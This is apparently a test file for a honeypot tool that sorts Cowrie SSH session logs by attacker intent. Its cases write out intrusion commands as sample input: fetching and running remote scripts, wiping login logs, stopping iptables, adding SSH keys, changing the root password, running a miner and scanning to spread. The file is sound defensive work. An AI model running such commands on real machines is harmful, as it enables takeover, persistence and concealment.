// How far a session meant to go, by parsed commands: what a line merely contains says nothing.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { SessionEvent } from '../../observatory/store.ts';
import { loadKnowledge } from '../knowledge.ts';
import { intentsOf } from './intent.ts';
import { judge } from './judge.ts';
import { signsOf } from './signs.ts';

const knowledge = loadKnowledge();
const { techniques } = knowledge;
const typed = (...lines: string[]): SessionEvent[] => [
  { at: 0, eventid: 'cowrie.session.connect', fields: {} },
  { at: 900, eventid: 'cowrie.login.success', fields: { username: 'root', password: 'x' } },
  ...lines.map((input, index) => ({ at: 1_000 + index, eventid: 'cowrie.command.input', fields: { input } })),
];
const row = { protocol: 'ssh', started: 0, loggedIn: true, approximate: false } as const;
const of = (events: SessionEvent[], loggedIn = true) =>
  intentsOf(signsOf({ ...row, loggedIn }, events), events, techniques);

test('the furthest stage of a session', () => {
  const cases: [lines: string[], intent: string][] = [
    [['echo hello'], 'login'],
    [['echo "wget http://a.example/x; xmrig"'], 'login'],
    [['uname -a', 'cat /proc/cpuinfo'], 'discovery'],
    [['uname -a', 'unset HISTFILE', 'rm -rf /var/log/wtmp'], 'prepare'],
    [['service iptables stop'], 'prepare'],
    [['mkdir .ssh; echo "ssh-rsa AAAA x" >> .ssh/authorized_keys'], 'persist'],
    [['echo "root:secret"|chpasswd'], 'persist'],
    [['wget http://192.0.2.1/x'], 'load'],
    [['wget http://192.0.2.1/x', 'chmod 777 x', './x'], 'execute'],
    [['curl http://192.0.2.1/x | sh'], 'execute'],
    [['cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh'], 'execute'],
    [['sh', 'shell', 'enable'], 'login'],
    [['sh -c "uname -a"'], 'discovery'],
    [['masscan 192.0.2.0/24 -p22'], 'spread'],
    [['sshpass -p x ssh root@192.0.2.1 id'], 'spread'],
  ];
  for (const [lines, intent] of cases) assert.equal(of(typed(...lines)).intent, intent, lines.join(' / '));
});

test('without lines, the events say it', () => {
  assert.equal(of([{ at: 0, eventid: 'cowrie.session.connect', fields: {} }], false).intent, 'scan');
  const failed = { at: 9, eventid: 'cowrie.login.failed', fields: { username: 'a', password: 'b' } };
  assert.equal(of([failed], false).intent, 'guess');
  const tunnel = { at: 9, eventid: 'cowrie.direct-tcpip.request', fields: { dst_ip: 'a.example', dst_port: 25 } };
  const { intent, purposes } = of([...typed(), tunnel]);
  assert.deepEqual([intent, purposes], ['execute', ['proxy']]);
});

test('each stage names the line and the techniques that show it, and what it was for', () => {
  const { steps, purposes } = of(typed('uname -a; w', 'nproc', './xmrig -o pool.example:3333'));
  const discovery = steps.find(({ intent }) => intent === 'discovery');
  assert.equal(discovery?.line, 'uname -a; w');
  assert.ok(discovery.techniques.includes('T1082'));
  assert.deepEqual(purposes, ['miner']);
});

test('20,000 events of a hostile session are judged at once', () => {
  const lines = Array.from({ length: 20_000 }, (_, i) => `wget http://192.0.2.1/${i}; ${'a;'.repeat(200)}`);
  const events = typed(...lines);
  const started = process.cpuUsage();
  const { verdict, intents } = judge({ ...row, events } as unknown as Parameters<typeof judge>[0], knowledge);
  const { user, system } = process.cpuUsage(started);
  assert.ok(user + system < 5_000_000, `${(user + system) / 1000} ms of CPU`);
  assert.equal(verdict.who, 'bot');
  assert.equal(intents.intent, 'load');
});
